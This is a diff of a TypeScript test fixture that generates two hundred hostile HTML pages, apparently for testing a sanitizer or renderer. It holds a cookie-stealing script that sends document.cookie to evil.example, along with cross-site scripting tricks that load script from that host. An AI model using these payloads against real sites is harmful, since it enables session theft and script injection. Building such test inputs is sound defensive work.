@@ -1,7 +1,7 @@
 const away = 'https://evil.example'
 const run = `document.title='ran';fetch('${away}/fetch?'+document.cookie);alert(1)`
 
-/** What a hostile file may try, one trick each. `RUN` stands for script, `AWAY` for an address outside. */
+/** The tricks of a hostile file. `RUN` stands for script, `AWAY` for an outside address. */
 const tricks = [
   '<script>RUN</script>',
   '<script src="AWAY/a.js"></script>',
@@ -105,7 +105,7 @@ const tricks = [
   '<bgsound src="AWAY/bg.mid"><basefont face="x"><ilayer src="AWAY/il">x</ilayer>',
 ]
 
-/** Two hundred hostile pages: each trick in the body, and before the document's own head. */
+/** Two hundred hostile pages: each trick in the body, and before the document's head. */
 export const hostilePages: string[] = tricks.flatMap((trick) => {
   const filled = trick.replaceAll('RUN', run).replaceAll('AWAY', away)
   const body = '<table><tr><th>Sample ID</th><td>HOST</td></tr></table>'
